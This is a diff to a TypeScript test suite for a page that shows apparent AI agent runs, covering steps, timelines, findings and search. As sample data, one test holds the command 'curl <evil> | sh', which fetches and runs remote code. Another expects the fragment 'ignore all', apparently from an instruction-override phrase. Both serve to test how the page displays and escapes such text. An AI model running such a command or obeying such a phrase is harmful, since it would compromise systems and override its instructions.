@@ -26,6 +26,7 @@ const RESULT: ShownText = {
   start: 0,
   text: TEXT,
   marks: [],
+  isEarlier: false,
 };
 
 function step(number: number, fields: Partial<ShownStep> = {}): ShownStep {
@@ -39,6 +40,9 @@ function step(number: number, fields: Partial<ShownStep> = {}): ShownStep {
     findings: [],
     texts: [],
     open: null,
+    snippet: null,
+    earlier: 0,
+    textsLeftOut: 0,
     ...fields,
   };
 }
@@ -46,6 +50,7 @@ function step(number: number, fields: Partial<ShownStep> = {}): ShownStep {
 function shown(steps: readonly ShownStep[], fields: Partial<ShownSteps> = {}): ShownSteps {
   return {
     steps,
+    places: new Map(),
     count: steps.length,
     pageSteps: 50,
     sought: null,
@@ -69,6 +74,7 @@ function data(fields: Partial<RunPage> = {}): RunPage {
     findings: [],
     isList: true,
     titleOf: (id) => `title of ${id}`,
+    query: '',
     isRedacted: false,
     nowMs: NOW_MS,
     ...fields,
@@ -98,8 +104,8 @@ describe('steps', () => {
   });
 
   test('say what is not shown of them', () => {
-    const cut = outline({ isCut: true, surfaces: [{ surface: 'tool_args', texts: 52, bytes: 9 }] });
-    const steps = [step(7, { outline: cut, texts: [RESULT, RESULT] })];
+    const cut = outline({ isCut: true });
+    const steps = [step(7, { outline: cut, texts: [RESULT, RESULT], textsLeftOut: 50 })];
     expect(page({ shown: shown(steps) })).toContain('50 more texts are not shown');
     expect(page({ shown: shown(steps) })).toContain(`href="${RUN_PATH}?step=7#step-7"`);
     expect(page({ shown: shown(steps, { sought: 7 }) })).not.toContain('Show more of this step');
@@ -229,7 +235,8 @@ describe('findings', () => {
 
   test('are all listed, with links to their places', () => {
     const text = page({ findings: [finding({ stepName: 'far away' })] });
-    expect(text).toContain(`<a href="${RUN_PATH}?finding=${FOUND.id}#found">far away</a>`);
+    const link = `<a href="${RUN_PATH}?finding=${FOUND.id}#found" title="far away">Step`;
+    expect(text).toContain(link);
   });
 });
 
@@ -239,7 +246,7 @@ describe('the timeline', () => {
   test('has a link per step, and one of them in full', () => {
     const text = timeline();
     expect(text).toContain(
-      `<li class="in-0" data-depth="0"><a href="${RUN_PATH}?step=1#step-1" data-step="1" aria-current="true">`,
+      `<li class="in-0" data-depth="0" id="row"><a href="${RUN_PATH}?step=1#step-1" data-step="1" aria-current="true">`,
     );
     expect(text).toContain(
       `<li class="in-1" data-depth="1"><a href="${RUN_PATH}?step=2#step-2" data-step="2">`,
@@ -353,6 +360,50 @@ describe('a long text', () => {
   });
 });
 
+describe('the story of the run', () => {
+  const timeline = (fields: Partial<RunPage>) => page({ isList: false, ...fields });
+
+  test('is told by the rows, whose step has the anchor', () => {
+    const steps = [step(1), step(2, { snippet: 'curl <evil> | sh' })];
+    const text = timeline({ shown: shown(steps, { sought: 2 }) });
+    expect(text).toContain('<span class="snippet">curl &lt;evil&gt; | sh</span>');
+    expect(text).toMatch(/<li class="in-0" data-depth="0" id="row"><a [^>]*data-step="2"/);
+  });
+
+  test('folds what a call of a model had from the call before', () => {
+    const old = { ...RESULT, index: 1, text: 'the old one', isEarlier: true };
+    const text = timeline({ shown: shown([step(1, { texts: [RESULT, old], earlier: 46 })]) });
+    const [fresh = '', folded = ''] = text.split('<details class="earlier">');
+    expect(fresh).toContain('ignore all');
+    expect(fresh).not.toContain('the old one');
+    expect(folded).toContain('46 earlier messages');
+    expect(folded).toContain('the old one');
+  });
+
+  test('has its findings in the order of steps, and one form for all of them', () => {
+    const at = (id: number, number: number) => {
+      const one = finding({ id: hex16(id) });
+      return { ...one, place: { ...one.place, step: number } };
+    };
+    const places = new Map([[hex16(3), 4]]);
+    const findings = [at(1, 12), at(2, 5), at(3, 3), at(4, 20)];
+    const query = 'done=acknowledged.3.4';
+    const text = timeline({ findings, query, shown: shown([step(1)], { places }) });
+    const panel = text.slice(text.indexOf('id="findings"'), text.indexOf('Search texts'));
+    expect([...panel.matchAll(/>Step (\d+)</g)].map(([, number]) => number)).toEqual([
+      '4',
+      '5',
+      '12',
+      '20',
+    ]);
+    expect(panel.match(/<form /g)).toHaveLength(1);
+    expect(panel.match(/type="checkbox" name="finding-/g)).toHaveLength(4);
+    expect(panel).toContain('<summary>1 more</summary>');
+    expect(panel).toContain(`name="run" value="${hex16(0xc1)}"`);
+    expect(panel).toContain('3 findings set to acknowledged. 1 needed no change.');
+  });
+});
+
 describe('a search', () => {
   const hit = {
     step: 12,
@@ -363,6 +414,7 @@ describe('a search', () => {
     before: 'a <b> ',
     match: 'key',
     after: ' c',
+    repeatedIn: 0,
   };
   const unreadable = { blocks: 0, steps: 0 };
   const search = { phrase: 'the "key"', from: 1, hits: [hit], next: 101, cut: 2, unreadable };
@@ -378,6 +430,13 @@ describe('a search', () => {
     expect(text).toContain('steps 1 to 100');
     expect(text).toContain('Only the beginning of 2 large steps was searched.');
     expect(text).toContain(`href="${RUN_PATH}?${query}&amp;after=100#search"`);
+  });
+
+  test('says how often a text was sent again', () => {
+    const again = { ...search, hits: [{ ...hit, repeatedIn: 16 }, hit] };
+    const text = page({ search: again });
+    expect(text).toContain('2 texts match, sent again in up to 16 later steps,');
+    expect(text).toContain('Tool arguments of (no name), sent again in 16 later steps');
   });
 
   test('without a hit says so', () => {
